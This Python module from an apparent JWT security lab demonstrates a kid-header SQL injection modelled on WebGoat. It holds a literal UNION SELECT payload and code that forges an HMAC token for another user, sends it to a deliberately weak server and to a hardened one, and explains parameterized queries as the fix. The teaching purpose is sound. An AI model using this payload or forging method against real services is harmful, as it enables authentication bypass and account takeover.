"""The lab's kid SQL injection (WebGoat's JWT lesson): a key found by a query built from kid's text.

Both servers keep their HMAC key in SQLite under the kid "server-key". The attacker never learns
it: they write a kid that makes the weak server's query return a string they chose, and sign
with that string. The very same token goes to the hardened server, which checks kid has the form
of its key names and binds it as a parameter.
"""

from __future__ import annotations

import json

from authcli.passwords import ATTACKER_EMAIL, ATTACKER_PASSWORD, DEMO_USER_ID, lab_users
from authcli.server.lab.weaknesses import WEAKNESSES, Weakness, jwt_policy
from authcli.server.schemes.kid_table import KeyTableJwtAuth
from authcli.tokens.forge import sign_hmac
from authcli.tokens.parse import split
from authcli.tokens.signing import make_signing_key
from authcli.walkthroughs.lab.model import Attack, Pair, outcome, welcomed

KNOWN_SECRET = b"known-secret"
INJECTED_KID = "x' UNION SELECT 'known-secret' --"


def kid_sql_apps(w: Weakness) -> tuple[KeyTableJwtAuth, KeyTableJwtAuth]:
    key = make_signing_key("HS256")
    return (KeyTableJwtAuth(key, 300, policy=jwt_policy([w]), users=lab_users(), weak=(w.name,)),
            KeyTableJwtAuth(key, 300, users=lab_users()))


def kid_sql(pair: Pair):
    login = pair.send(pair.weak, "POST", "/login", json={"email": ATTACKER_EMAIL, "password": ATTACKER_PASSWORD})
    token = json.loads(login.response.body)["token"]
    claims = {**split(token).payload, "sub": str(DEMO_USER_ID), "userId": DEMO_USER_ID}
    forged = sign_hmac({"alg": "HS256", "typ": "JWT", "kid": INJECTED_KID}, claims, KNOWN_SECRET)
    out = []
    for server, shown in ((pair.weak, [("log in", login)]), (pair.hard, [])):
        ex = pair.send(server, "GET", "/profile", headers={"Authorization": f"Bearer {forged}"})
        out.append(outcome([*shown, ("the forged token", ex)], won_if=welcomed(DEMO_USER_ID)))
    out[0].notes.append(f"The server's own tokens say kid \"{split(token).header.get('kid')}\": the "
                        "name of their key's row in an SQLite table. The attacker sets kid to "
                        f"{INJECTED_KID}, so a query that pastes kid between quotes returns the "
                        f"string {KNOWN_SECRET.decode()} as the key, and signs with that string "
                        "[^webgoat-jwt].")
    out[1].notes.append("Here kid must be shaped like this server's key names (letters, digits, - and _), "
                        "and it is sent to SQLite as a bound value (kid = ?), never as SQL "
                        "[^owasp-query-parameterization]. Neither stops a kid that names another "
                        "key in the table: only the keys kept there can be picked.")
    return out[0], out[1]


KID_SQL = Attack(WEAKNESSES["kid-sql"], "The attacker signs a token for user 1 with a secret of "
                 "their own choosing, and makes the server's key query return it.", kid_sql, kid_sql_apps,
                 "A token whose kid is SQL that returns the attacker's secret.")
